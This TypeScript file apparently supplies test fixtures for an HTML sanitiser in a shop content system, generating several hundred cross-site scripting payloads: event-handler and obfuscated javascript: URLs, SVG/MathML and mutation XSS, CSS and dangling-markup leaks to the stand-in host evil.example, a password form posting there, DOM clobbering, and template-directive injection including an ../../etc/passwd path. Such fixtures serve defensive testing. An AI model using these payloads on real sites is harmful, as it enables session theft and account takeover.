/**
 * Returns payloads that a stolen editor's account might write. Each calls `ran(…)` with its number if a part of it runs, or requests
 * `evil.example` if a part of it is loaded.
 */
export function xssPayloads(): string[] {
  const templates = [
    ...handlers(),
    ...addresses(),
    ...disguisedSchemes(),
    ...foreignContent,
    ...mutations,
    ...styles,
    ...embedding,
    ...documents,
    ...forms,
    ...dangling,
    ...clobbering,
    ...directives,
  ]
  return templates.map((template, index) => template.replaceAll('RUN', `ran(${index})`))
}

const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'a href=#',
  'p',
]
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforeinput',
  'onscrollend',
  'ontransitionend',
  'onbeforematch',
]

function handlers(): string[] {
  const plain = elements.flatMap((element) => events.map((event) => `<${element} ${event}=RUN>x`))
  return [
    ...plain,
    '<img/src="x"/onerror="RUN">',
    '<img src=x onerror\n=\n"RUN">',
    '<img src=x OnErRoR=RUN>',
    '<img src=x o\u0000nerror=RUN>',
    '<img """><script>RUN</script>">',
    '<img src="x` `<script>RUN</script>"` `>',
    '<<script>RUN//<</script>',
    '<img src=x onerror=&#114;&#97;&#110;(1);RUN>',
    '<p title="</p><img src=x onerror=RUN>">x</p>',
    '<abbr title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">x</abbr>',
    "<a title='x' onmouseover='RUN'>x</a>",
    '<IMG SRC=x ONERROR="RUN"//',
    '<time datetime="x" onbeforetoggle="RUN" popover>x</time>',
    '<p contenteditable autofocus tabindex=1 onfocus=RUN>x</p>',
    '<details ontoggle=RUN open><summary>x</summary></details>',
  ]
}

function addresses(): string[] {
  const holders = [
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<img src="${url}">`,
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<form action="${url}"><button>x</button></form>`,
    (url: string) => `<object data="${url}"></object>`,
    (url: string) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
    (url: string) => `<math><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
    (url: string) => `<video poster="${url}" src="${url}"></video>`,
  ]
  const urls = [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'data:text/html,<script>RUN</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg onload=RUN>',
    'vbscript:RUN',
    'blob:https://evil.example/1',
    'feed:javascript:RUN',
    'view-source:javascript:RUN',
  ]
  return holders.flatMap((holder) => urls.map(holder))
}

function disguisedSchemes(): string[] {
  const disguises = [
    'java\tscript:RUN',
    'java\nscript:RUN',
    'java&Tab;script:RUN',
    'java&NewLine;script:RUN',
    'javascript&colon;RUN',
    'javascript&#58;RUN',
    'javascript&#x3A;RUN',
    '&#106;avascript:RUN',
    '&#x6A&#x61&#x76&#x61script:RUN',
    '&#0000106;avascript:RUN',
    '\u0001javascript:RUN',
    '\u00a0javascript:RUN',
    '  javascript:RUN',
    'java\u0000script:RUN',
    'java\u200bscript:RUN',
    'javascript\u00ad:RUN',
    'java<!-- -->script:RUN',
    'javascript://%0aRUN',
    'javascript:/*--></title></style></script>*/RUN',
    '//evil.example/x',
    '/\\evil.example/x',
    '\\\\evil.example/x',
    'https:evil.example',
    'ｊavascript:RUN',
  ]
  return disguises.flatMap((url) => [`<a href="${url}">x</a>`, `<img src="${url}" alt="x">`])
}

const foreignContent = [
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:,RUN"/></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:RUN /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></foreignObject></svg>',
  '<svg><desc><img src=x onerror=RUN></desc></svg>',
  '<svg><image href=x onerror=RUN></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><title><style><img title="</style><img src=x onerror=RUN>"></style></title></svg>',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<math href="javascript:RUN">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '<math><mi><img src=x onerror=RUN></mi></math>',
]

/** Harmless as written, but dangerous after a browser has parsed its own serialisation again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>',
  '<plaintext><img src=x onerror=RUN>',
  '<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>',
  '<title><img title="</title><img src=x onerror=RUN>"></title>',
  '<style><img title="</style><img src=x onerror=RUN>"></style>',
  '<iframe><img title="</iframe><img src=x onerror=RUN>"></iframe>',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<select><option><style></option></select><img src=x onerror=RUN></style>',
  '<table><td><select><img src=x onerror=RUN></select></table>',
  '<!--><img src=x onerror=RUN>-->',
  '<!--<img src="--><img src=x onerror=RUN>">',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<?xml version="1.0"?><img src=x onerror=RUN>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;',
  '</p id="><img src=x onerror=RUN>">',
  '<p id="--><img src=x onerror=RUN>">x</p>',
  '<a href="/x"><svg><a href="/y"><img src=x onerror=RUN></a></svg></a>',
  `${'<div>'.repeat(300)}<img src=x onerror=RUN>`,
  `${'<b>'.repeat(60)}<table><style><img src=x onerror=RUN>`,
]

const styles = [
  '<style>@import "https://evil.example/x.css"</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(javascript:RUN)">x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(RUN)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=stylesheet href="data:text/css,*{color:red}">',
  '<table background="https://evil.example/x"><tr><td background="javascript:RUN">x</table>',
]

const embedding = [
  '<script>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<script type=module>RUN</script>',
  '<script type=importmap>{"imports":{"/assets/":"https://evil.example/"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<script\u000cx>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script>RUN',
  '<script/x>RUN</script\n>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<frameset onload=RUN><frame src="javascript:RUN"></frameset>',
  '<object type="text/html" data="https://evil.example/"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<embed src="javascript:RUN">',
  '<applet code="x" archive="https://evil.example/x.jar"></applet>',
  '<portal src="https://evil.example/"></portal>',
  '<fencedframe src="https://evil.example/"></fencedframe>',
  '<audio src=x onerror=RUN></audio>',
  '<video><source src=x onerror=RUN></video>',
  '<video src="https://evil.example/x" autoplay></video>',
  '<picture><source srcset="https://evil.example/x"><img src=x onerror=RUN></picture>',
  '<img srcset="https://evil.example/x 1x">',
  '<img src="https://evil.example/x">',
  '<img lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  '<img src="/api/user/logout">',
  '<img src="/invalidate?key=x&tag=*">',
  '<bgsound src="javascript:RUN">',
  '<image src=x onerror=RUN>',
  '<isindex action="javascript:RUN" type=image>',
  '<marquee onstart=RUN>x</marquee>',
  '<keygen autofocus onfocus=RUN>',
  '<x-element is="x" onclick=RUN>x</x-element>',
  '<button is=x onclick=RUN>x</button>',
]

const documents = [
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta name=referrer content=unsafe-url>',
  '<base href="https://evil.example/">',
  '<base target="_blank">',
  '<link rel=import href="https://evil.example/">',
  '<link rel=prefetch href="https://evil.example/">',
  '<link rel=modulepreload href="https://evil.example/x.js">',
  '<link rel=manifest href="https://evil.example/">',
  '<html onload=RUN><body onpageshow=RUN>',
  '<head><script>RUN</script></head>',
  '</div></main></body></html><script>RUN</script>',
  '</script><script>RUN</script>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  '<a href="/x" target="_blank" rel="opener">x</a>',
  '<a href="/x" download="x.exe">x</a>',
]

const forms = [
  '<form action="https://evil.example/"><input name=password><button>x</button></form>',
  '<form action="javascript:RUN"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:RUN">x</button>',
  '<button formaction="javascript:RUN">x</button>',
  '<input type=image src="https://evil.example/x" formaction="javascript:RUN">',
  '<input onfocus=RUN autofocus>',
  '<select autofocus onfocus=RUN><option>x</select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<label for="search-field">x</label>',
  '<isindex type=image src=x onerror=RUN>',
]

/** Unclosed attributes: the following text would be sent along, up to the next quote. */
const dangling = [
  "<img src='https://evil.example/?",
  '<img src="https://evil.example/?',
  '<a href="https://evil.example/?',
  "<meta http-equiv=refresh content='0;url=https://evil.example/?",
  "<link rel=stylesheet href='https://evil.example/?",
  '<textarea name=x>',
  "<form action='https://evil.example/'><button>x</button><option>",
  '<p title="',
  '<!-- ',
  '<',
  '</',
  '<a',
  "<base target='",
]

/** Ids and names that the shop's own scripts look up. */
const clobbering = [
  '<script type="application/json" id="page-data">{}</script>',
  '<div id="page-data">{"page":"home","data":{"html":"&lt;img src=x onerror=RUN&gt;"}}</div>',
  '<div id="app"><img src=x onerror=RUN></div>',
  '<a id="navigation" name="navigation" href="/x">x</a>',
  '<form id=document><input name=body></form>',
  '<img name="currentScript" src="x">',
  '<a id="caches"></a><a id="caches" name="open" href="/x">x</a>',
  '<p __proto__=x constructor=x id="__proto__">x</p>',
  '<p data-voucher="RUN" data-reactroot is=x slot=x part=x nonce=x>x</p>',
]

const directives = [
  '{{store url="javascript:RUN"}}',
  '<a href="{{store url="javascript:RUN"}}">x</a>',
  '<a href="{{store url=\'"onmouseover="RUN"\'}}">x</a>',
  '<a href="{{store direct_url="//evil.example/"}}">x</a>',
  '<img src="{{media url="https://evil.example/x"}}">',
  '<img src="{{media url=\'x" onerror="RUN\'}}">',
  '<img src="{{media url="../../api/x"}}">',
  '{{media url="<script>RUN</script>"}}',
  '{{trans "<img src=x onerror=RUN>"}}',
  '{{trans "&lt;img src=x onerror=RUN&gt;"}}',
  '{{widget type="<script>RUN</script>"}}',
  '{{widget type="text" block="<img src=x onerror=RUN>"}}',
  '{{widget type="__proto__"}}',
  '{{widget type="constructor" block="RUN"}}',
  '{{widget type="product_row" title="<img src=x onerror=RUN>" category_id="RUN"}}',
  '{{widget type="usp_row" points="<script>RUN</script>"}}',
  '{{block id="<script>RUN</script>"}}',
  '{{block class="Magento\\Framework\\View\\Element\\Template" template="../../etc/passwd"}}',
  '{{config path="web/cookie/cookie_path"}}<script>RUN</script>',
  '{{var this.getTemplateFilter().filter("<script>RUN</script>")}}',
  '{{if x}}<script>RUN</script>{{/if}}',
  '{{{{store url="x"}}script>RUN</script>',
  '<scr{{var x}}ipt>RUN</scr{{var x}}ipt>',
  '<img src=x one{{var x}}rror=RUN>',
  '<a href="java{{var x}}script:RUN">x</a>',
  '<img src=x {{trans "onerror=RUN"}}>',
  '<p title="{{widget type="text"}}"><img src=x onerror=RUN></p>',
  '<scr{{widget type="none"}}ipt>RUN</script>',
]
